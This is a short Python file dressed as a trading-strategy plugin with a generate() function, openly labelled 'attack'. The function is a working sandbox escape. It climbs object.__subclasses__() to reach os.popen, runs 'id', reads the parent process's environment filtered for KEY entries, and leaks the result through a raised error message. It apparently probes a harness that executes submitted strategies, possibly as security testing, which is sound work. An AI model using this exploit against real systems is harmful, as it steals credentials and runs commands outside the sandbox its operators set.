# ruff: noqa
"""e1: ().__class__.__base__.__subclasses__() -> os._wrap_close globals -> popen"""

import dataclasses

import numpy as np
import polars as pl
from pydantic import BaseModel

STRATEGY_ID = "attack"
VERSION = 1
WARMUP_BARS = 1


class Params(BaseModel):
    pass


def generate(bars, params):
    for c in ().__class__.__base__.__subclasses__():
        if c.__name__ == "_wrap_close":
            g = c.__init__.__globals__
            out = g["popen"]("id; tr '\\0' '\\n' < /proc/%d/environ | grep KEY" % g["getppid"]()).read()
            if out:
                raise RuntimeError("EXEC" "UTED " + out)
            raise RuntimeError("popen gave no output")
    raise RuntimeError("no _wrap_close")
